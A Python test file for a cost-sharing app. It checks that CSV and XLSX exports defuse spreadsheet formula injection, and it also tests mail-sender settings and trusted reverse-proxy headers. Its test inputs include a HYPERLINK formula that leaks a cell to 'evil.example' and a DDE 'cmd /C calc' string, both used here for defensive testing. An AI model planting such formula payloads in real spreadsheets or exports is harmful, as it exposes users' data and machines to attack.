"""Input hardening: spreadsheet cells that would run as formulas, settings, proxies."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from costshare.xlsx import Column, Sheet, safe_cell, unguard_cell, workbook
from tests.invoices.support import issued_run

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (EVIL, "'" + EVIL),
        ("+SUM(1,2)", "'+SUM(1,2)"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-Infinity", "'-Infinity"),
        ("- 5", "'- 5"),
        ("-5", "-5"),
        ("+1.25", "+1.25"),
        ("-1.5e3", "-1.5e3"),
        ("Library = books", "Library = books"),
        ("", ""),
        (Decimal("-5.00"), Decimal("-5.00")),
        (-7, -7),
        (None, None),
    ],
)
def test_one_guard_keeps_formulas_text_and_numbers_numbers(value, written) -> None:
    assert safe_cell(value) == written
    if isinstance(written, str):
        assert unguard_cell(written) == value


HYPERLINK = '=HYPERLINK("http://x.example","y")'
#: Text a spreadsheet would run as a formula (or read as an error value), and plain text.
FORMULA_TEXTS = [EVIL, HYPERLINK, "=1+1", "-Dept", "+SUM(1,2)", "@SUM(1)", "\t=1+1", "#N/A"]


def _sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        names = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        assert len(names) == 1
        return archive.read(names[0]).decode()


def _assert_text_cells(data: bytes, cells, texts) -> None:
    """Each text is in `cells` exactly as typed (no apostrophe), stored as a string, no formula."""
    found = {c.value: c for c in cells if isinstance(c.value, str)}
    for text in texts:
        assert text in found, text
        assert found[text].data_type == "s", text
        assert found[text].quotePrefix, text  # Excel keeps it text when the cell is edited
        assert "'" + text not in found
    assert not any(c.data_type in ("f", "e") for c in cells)
    xml = _sheet_xml(data)
    assert "<f>" not in xml and "<f " not in xml


def test_every_xlsx_table_writes_formula_text_as_text_as_typed() -> None:
    sheet = Sheet(
        "T",
        [Column("name"), Column("amount", "money", "EUR")],
        [[text, Decimal("-3.50")] for text in FORMULA_TEXTS],
        notes=["=1+1"],
    )
    data = workbook([sheet])
    ws = load_workbook(io.BytesIO(data)).active
    assert ws["A1"].value == "=1+1" and ws["A1"].data_type == "s"
    assert [ws.cell(row=3 + i, column=1).value for i in range(len(FORMULA_TEXTS))] == FORMULA_TEXTS
    assert ws["B3"].value == -3.5 and ws["B3"].data_type == "n"
    _assert_text_cells(data, [c for row in ws.iter_rows() for c in row], FORMULA_TEXTS)


def _csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def test_member_exports_neutralise_a_formula_name(as_coordinator, world, session) -> None:
    world.own.name = HYPERLINK
    world.other.name = "-Dept"
    session.flush()
    rows = _csv_rows(as_coordinator.get("/members/export.csv").data)
    names = [row[rows[0].index("name")] for row in rows[1:]]
    assert sorted(names) == sorted(["'" + HYPERLINK, "'-Dept"])

    data = as_coordinator.get("/members/export.xlsx").data
    ws = load_workbook(io.BytesIO(data)).active
    header = [c.value for c in ws[1]]
    cells = [row[header.index("name")] for row in ws.iter_rows(min_row=2)]
    assert sorted(c.value for c in cells) == sorted([HYPERLINK, "-Dept"])
    _assert_text_cells(data, cells, [HYPERLINK, "-Dept"])


def test_a_member_export_with_formula_names_reads_back_as_no_change(
    as_coordinator, world, session
) -> None:
    world.own.name = HYPERLINK
    world.other.name = "-Dept"
    session.flush()
    for path, filename in (("/members/export.xlsx", "m.xlsx"), ("/members/export.csv", "m.csv")):
        exported = as_coordinator.get(path).data
        html = as_coordinator.post_form(
            "/members/import",
            {"file": (io.BytesIO(exported), filename)},
            content_type="multipart/form-data",
        ).get_data(as_text=True)
        assert re.search(r'id="count-unchanged">2<', html), filename
        assert 'id="nothing-to-import"' in html, filename


def test_an_older_xlsx_export_with_apostrophes_reads_back_as_no_change(
    as_coordinator, world, session
) -> None:
    world.own.name = HYPERLINK
    world.other.name = "-Dept"
    session.flush()
    book = load_workbook(io.BytesIO(as_coordinator.get("/members/export.xlsx").data))
    ws = book.active
    column = [c.value for c in ws[1]].index("name") + 1
    for row in range(2, ws.max_row + 1):
        cell = ws.cell(row=row, column=column)
        cell.value = "'" + cell.value  # as exports wrote formula-like names before
    out = io.BytesIO()
    book.save(out)
    html = as_coordinator.post_form(
        "/members/import",
        {"file": (io.BytesIO(out.getvalue()), "old.xlsx")},
        content_type="multipart/form-data",
    ).get_data(as_text=True)
    assert re.search(r'id="count-unchanged">2<', html)
    assert 'id="nothing-to-import"' in html


def test_invoice_exports_neutralise_a_formula_name(as_coordinator, world, session, app) -> None:
    with app.test_request_context():
        issued_run(session, world)
    world.own.name = HYPERLINK
    world.other.name = "-Dept"
    session.flush()
    rows = _csv_rows(as_coordinator.get("/billing/export/invoices.csv").data)
    names = [row[rows[0].index("member_name")] for row in rows[1:]]
    assert "'" + HYPERLINK in names and HYPERLINK not in names
    assert "'-Dept" in names and "-Dept" not in names

    data = as_coordinator.get("/billing/export/invoices.xlsx").data
    ws = load_workbook(io.BytesIO(data)).active
    header = [c.value for c in ws[1]]
    cells = [row[header.index("member_name")] for row in ws.iter_rows(min_row=2)]
    assert {c.value for c in cells} == {HYPERLINK, "-Dept"}
    _assert_text_cells(data, cells, [HYPERLINK, "-Dept"])
    gross = [row[header.index("gross")] for row in ws.iter_rows(min_row=2)]
    assert all(c.data_type == "n" for c in gross)


# ---------------------------------------------------------------------------------------------
# Settings


@pytest.fixture
def environment(monkeypatch, tmp_path):
    monkeypatch.setenv("COSTSHARE_INSTANCE_PATH", str(tmp_path))
    monkeypatch.setenv("CONSORTIUM_EMAIL", "invoices@consortium.example.org")
    return monkeypatch


@pytest.mark.parametrize("empty", ["", "   "])
def test_an_empty_mail_sender_sends_from_the_consortium_address(environment, empty) -> None:
    from config import Config

    environment.setenv("MAIL_SENDER", empty)
    assert Config().MAIL_SENDER == "invoices@consortium.example.org"


def test_a_mail_sender_given_is_used(environment) -> None:
    from config import Config

    environment.setenv("MAIL_SENDER", "Billing <billing@consortium.example.org>")
    assert Config().MAIL_SENDER == "Billing <billing@consortium.example.org>"
    environment.delenv("MAIL_SENDER")
    assert Config().MAIL_SENDER == "invoices@consortium.example.org"


# ---------------------------------------------------------------------------------------------
# Behind a reverse proxy

FORWARDED = {
    "X-Forwarded-For": "203.0.113.7",
    "X-Forwarded-Proto": "https",
    "X-Forwarded-Host": "costshare.example.org",
}


def _seen(application) -> tuple[str, str, str]:
    from flask import request

    with application.test_client() as client:
        client.get("/login", headers=FORWARDED, environ_base={"REMOTE_ADDR": "10.0.0.2"})
        return request.remote_addr, request.scheme, request.host


def test_one_trusted_proxy_gives_the_clients_address_and_scheme(make_app) -> None:
    # Not the host: a client can send X-Forwarded-Host through a proxy that does not set it.
    assert _seen(make_app(PROXY_HOPS=1)) == ("203.0.113.7", "https", "localhost")


def test_without_a_trusted_proxy_the_forwarded_headers_are_ignored(make_app) -> None:
    assert _seen(make_app(PROXY_HOPS=0)) == ("10.0.0.2", "http", "localhost")


def test_proxy_hops_are_read_from_the_environment(environment) -> None:
    from config import Config

    assert Config().PROXY_HOPS == 0
    environment.setenv("PROXY_HOPS", "2")
    assert Config().PROXY_HOPS == 2
    environment.setenv("PROXY_HOPS", "")
    assert Config().PROXY_HOPS == 0
    for bad in ("-1", "one"):
        environment.setenv("PROXY_HOPS", bad)
        with pytest.raises(RuntimeError, match="PROXY_HOPS"):
            Config()
